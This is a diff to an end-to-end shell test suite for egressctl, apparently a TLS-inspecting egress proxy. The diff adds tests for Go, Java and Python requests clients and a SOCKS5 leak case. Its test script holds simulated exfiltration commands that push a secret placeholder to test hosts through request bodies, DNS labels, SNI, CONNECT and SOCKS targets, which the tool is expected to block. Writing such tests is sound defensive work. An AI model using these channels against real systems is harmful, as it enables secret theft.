@@ -7,9 +7,11 @@
 # judged on its own, then sent to the real server over TLS that egressctl
 # verifies.
 #
-#   allowed     curl (CONNECT), python urllib, node fetch and git, each with
-#               the CA of its own variable: GET passes, the server records
-#               it, the decision log says inspected with method and path
+#   allowed     curl (CONNECT), python urllib and requests, node fetch and
+#               git, each with the CA of its own variable, and Go's and
+#               Java's own TLS given the CA file: GET passes, the server
+#               records it, the decision log says inspected with method and
+#               path
 #   post        POST to a GET/HEAD host: 403 blocked-by-method-policy inside
 #               TLS, the server never sees it, no packet to it (control:
 #               the POST reaches the server without egressctl)
@@ -43,12 +45,14 @@
 #               the real values (env:, command: as SUDO_UID) arrive at the
 #               secret's host in headers (the server logs them) and nowhere
 #               else; the placeholder in another inspected host's header or
-#               URL, in a plain-HTTP request, as a CONNECT target, an SNI
-#               or a DNS label, in a request body to another inspected
-#               host: denied (403 blocked-by-secret-policy, a
-#               reset, REFUSED), logged naming the secret, never at a
-#               server; the value in no log, no output, not in CMD's
-#               environ; egressctl's environ, memory and ptrace refused to
+#               URL, in a plain-HTTP request, as a CONNECT or SOCKS5
+#               target, an SNI or a DNS label, in a request body to
+#               another inspected host (held or streamed): denied (403
+#               blocked-by-secret-policy, a reset, REFUSED), logged naming
+#               the secret, never at a server; a form and a JSON body to
+#               the secret's host get the value (and its length), a binary
+#               and a chunked one not; the value in no log, no output, not
+#               in CMD's environ; egressctl's environ, memory and ptrace refused to
 #               CMD; a bad --secret and a missing source refused at start
 #   hooks       a rule's header hooks: Cookie stripped; Authorization set
 #               from a secret only when the client sent its placeholder
@@ -226,7 +230,25 @@ cu curl https://ok.i.test/a/curl
 $IC get https://ok.i.test/a/urllib
 node -e 'fetch("https://ok.i.test/a/node").then(async r => console.log(JSON.stringify({ok: true, code: String(r.status), body: await r.text()})), e => console.log(JSON.stringify({ok: false, errno: String(e.cause && e.cause.code)})))'
 git ls-remote https://ok.i.test/a/repo.git >"$RW/git.out" 2>&1; echo "git rc=$?"
+echo "requests $(/usr/bin/python3 -c 'import requests; print(requests.get("https://ok.i.test/a/requests", timeout=5).status_code)' 2>&1 | tail -1)"
+[ -x "$RW/kvget" ] && "$RW/kvget" https://ok.i.test/a/go "$NODE_EXTRA_CA_CERTS"
+[ -f "$RW/KvGet.class" ] && java -XX:-UsePerfData -cp "$RW" KvGet https://ok.i.test/a/java "$NODE_EXTRA_CA_CERTS"
 EOF
+	# Go's and Java's own TLS stacks, built here outside the sandbox, given
+	# the CA file the run names (NODE_EXTRA_CA_CERTS: the CA alone)
+	if ! command -v go >/dev/null; then
+		fail inspect.allowed.go.present "go is not installed (tools/install-deps.sh installs golang-go)"
+	elif ! GOCACHE="$W/gocache" HOME="$W" GOPATH="$W/gopath" GO111MODULE=off \
+		go build -o "$RW/kvget" "$E2E_SRC/clients/kvget.go" >"$W/go-build.out" 2>&1; then
+		fail inspect.allowed.go.build "$(tail -3 "$W/go-build.out" | tr '\n' '|')"
+	fi
+	if ! command -v javac >/dev/null; then
+		fail inspect.allowed.java.present "javac is not installed (tools/install-deps.sh installs default-jdk-headless)"
+	elif javac -d "$RW" "$E2E_SRC/clients/KvGet.java" >"$W/javac.out" 2>&1; then
+		chmod 0644 "$RW/KvGet.class"
+	else
+		fail inspect.allowed.java.build "$(tail -3 "$W/javac.out" | tr '\n' '|')"
+	fi
 	web_mark
 	irun $t -- sh "$W/$t.sh"
 	a_code inspect.allowed.curl $t curl 200
@@ -241,6 +263,12 @@ EOF
 	egr_json $t 2
 	a_eq inspect.allowed.node code "$P_code" 200
 	web_saw inspect.allowed.node.server "method=GET target=/a/node host=ok\.i\.test"
+	a_grep inspect.allowed.requests "$W/$t.out" '^requests 200$'
+	web_saw inspect.allowed.requests.server "method=GET target=/a/requests host=ok\.i\.test"
+	a_grep inspect.allowed.go "$W/$t.out" '"client": ?"go".*"code": ?"200"'
+	web_saw inspect.allowed.go.server "method=GET target=/a/go host=ok\.i\.test"
+	a_grep inspect.allowed.java "$W/$t.out" '"client": "java".*"code": "200"'
+	web_saw inspect.allowed.java.server "method=GET target=/a/java host=ok\.i\.test"
 	# git's request got through TLS (the server's answer is no repository)
 	web_saw inspect.allowed.git.server "method=GET target=/a/repo\.git/info/refs\?service=git-upload-pack"
 	a_jlog_none inspect.allowed.no_deny "$W/$t.jlog" decision=deny
@@ -567,7 +595,7 @@ try:
     assert s["used"] == 3 and s["used_at"] == [{"host": "ok.i.test", "requests": 3}], s["used_at"]
     la = s["leak_attempts"]
     where = {a["where"] for a in la}
-    assert {"request", "dns", "sni", "connect"} <= where, where
+    assert {"request", "dns", "sni", "connect", "socks5"} <= where, where
     assert s["leaks"] == sum(a["count"] for a in la), (s["leaks"], la)
     assert any(a["where"] == "request" and a["destination"] == "plain.i.test:443" for a in la), la
     assert any(a["where"] == "dns" and a["destination"] == "x{TOK}.i.test" for a in la), la
@@ -602,6 +630,7 @@ cu bodychunked -X POST -H 'Transfer-Encoding: chunked' --data-binary "k=\$TOK" h
 cu bodyother -X POST -H 'Content-Type: application/json' --data-binary "{\"k\": \"\$TOK\"}" https://plain.i.test/s/bodyother
 cu bodystream -X POST -H 'Transfer-Encoding: chunked' --data-binary "x=\$TOK" https://plain.i.test/s/bodystream
 cu connect -p "https://\$H.i.test/s/connect"
+curl -sS --max-time 5 --proxy "\$ALL_PROXY" -o /dev/null "https://\$H.i.test/s/socks" 2>"$RW/socks.err"; echo "socks rc=\$?"
 curl -sS --max-time 5 --noproxy '*' --resolve "\$H.i.test:443:$A_OK" -o /dev/null "https://\$H.i.test/s/sni" 2>/dev/null; echo "sni rc=\$?"
 echo "dns \$(dig +time=2 +tries=1 "x\$H.i.test" A | grep -o 'status: [A-Z]*')"
 echo "self_environ \$(grep -c realtok /proc/self/environ)"
@@ -652,8 +681,10 @@ EOF
 	a_perr inspect.secrets.plain_http.header plainhttp blocked-by-secret-policy
 	a_grep inspect.secrets.connect "$RW/connect.err" "CONNECT tunnel failed, response 403"
 	a_grep inspect.secrets.sni "$W/$t.out" "^sni rc=[1-9][0-9]*$"
+	a_grep inspect.secrets.socks5 "$W/$t.out" "^socks rc=[1-9][0-9]*$"
+	a_jlog inspect.secrets.log.socks5 "$W/$t.jlog" decision=deny source=socks5 "reason=.*secret TOK.*"
 	a_grep inspect.secrets.dns "$W/$t.out" "^dns status: REFUSED$"
-	web_none inspect.secrets.nothing_elsewhere "target=/s/(other|url|plain|connect|sni|body|bodyother) "
+	web_none inspect.secrets.nothing_elsewhere "target=/s/(other|url|plain|connect|socks|sni|body|bodyother) "
 	a_jlog inspect.secrets.log.other "$W/$t.jlog" decision=deny host=plain.i.test \
 		"reason=.*secret TOK.*exfiltration attempt"
 	a_jlog inspect.secrets.log.dns "$W/$t.jlog" decision=deny source=dns "reason=.*secret TOK.*"
